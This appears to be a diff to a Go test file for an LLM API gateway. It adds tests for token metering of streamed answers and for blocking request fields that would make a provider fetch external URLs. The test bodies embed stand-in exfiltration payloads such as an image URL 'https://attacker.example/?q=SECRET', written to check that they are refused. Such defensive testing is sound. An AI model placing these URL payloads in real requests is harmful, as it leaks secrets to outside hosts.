@@ -776,7 +776,7 @@ func TestLanes(t *testing.T) {
 		t.Fatal(err)
 	}
 	cancel()
-	if err := short.Serve(context.Background(), open, nil); err != nil {
+	if err := short.Serve(context.Background(), open); err != nil {
 		t.Error(err)
 	}
 	closed, err := net.Listen("tcp", "127.0.0.1:0")
@@ -784,7 +784,58 @@ func TestLanes(t *testing.T) {
 		t.Fatal(err)
 	}
 	_ = closed.Close()
-	if err := l.Serve(context.Background(), closed, nil); err != nil {
+	if err := l.Serve(context.Background(), closed); err != nil {
 		t.Errorf("a listener that is closed: %v", err)
 	}
+}
+
+// TestTheTypeOfAnAnswerChangesNoPrice: an answer is read for what it is, whatever its endpoint calls it.
+func TestTheTypeOfAnAnswerChangesNoPrice(t *testing.T) {
+	var answer strings.Builder
+	for range 1000 {
+		answer.WriteString("data: {\"choices\":[{\"delta\":{\"content\":\"" + strings.Repeat("word ", 30) + "\"}}]}\n\n")
+	}
+	figures := "data: {\"choices\":[],\"usage\":{\"prompt_tokens\":10,\"completion_tokens\":30000}}\n\n"
+	for _, end := range []string{"", figures} {
+		for _, kind := range []string{"text/event-stream", "text/plain", "application/json", "application/octet-stream"} {
+			at := endpoint(t, func(w http.ResponseWriter, _ *http.Request) {
+				w.Header().Set("Content-Type", kind)
+				_, _ = io.WriteString(w, answer.String()+end+"data: [DONE]\n\n")
+			})
+			r := serve(t, gateway.Config{Providers: providers(at)})
+			_, _, _ = r.do("POST", "/openai/v1/chat/completions", `{"model":"mock-model","stream":true}`)
+			cost := r.host.check(t, 1)
+			if want := map[string]int64{"": 50_000, figures: 30_000}[end]; cost.OutTokens != want {
+				t.Errorf("%s, figures %t: %+v", kind, end != "", cost)
+			}
+		}
+	}
+}
+
+// TestNothingIsFetchedThroughTheGateway: what would have the provider fetch does not leave, neither to be answered nor
+// to have its tokens counted, and the person is told what it was.
+func TestNothingIsFetchedThroughTheGateway(t *testing.T) {
+	asked := 0
+	at := endpoint(t, func(_ http.ResponseWriter, r *http.Request) {
+		if raw, _ := io.ReadAll(r.Body); len(raw) > 0 {
+			asked++
+		}
+	})
+	r := serve(t, gateway.Config{Providers: providers(at)})
+	const block = `{"model":"mock-model","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/?q=SECRET"}}]}]}`
+	for _, c := range []struct{ method, path, body string }{
+		{"POST", "/anthropic/v1/messages", block}, {"POST", "/anthropic/v1/messages/count_tokens", block},
+		{"POST", "/gemini/v1beta/models/m:countTokens", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://attacker.example/"}}]}]}`},
+		{"POST", "/openai/v1/chat/completions", `{"model":"mock-model","plugins":[{"id":"web"}]}`},
+		{"GET", "/openai/v1/models", `{"url":"https://attacker.example/"}`},
+	} {
+		if status, body, _ := r.do(c.method, c.path, c.body); (status != 403) != (c.method == "GET") || asked != 0 {
+			t.Errorf("%s %s: %d %s, %d went out", c.method, c.path, status, body, asked)
+		}
+	}
+	r.stop()
+	if err := r.lane.Err(); pawl.CodeOf(err) != pawl.CodeDenied {
+		t.Errorf("the lane tells %v", err)
+	}
+	r.host.check(t, 0)
 }
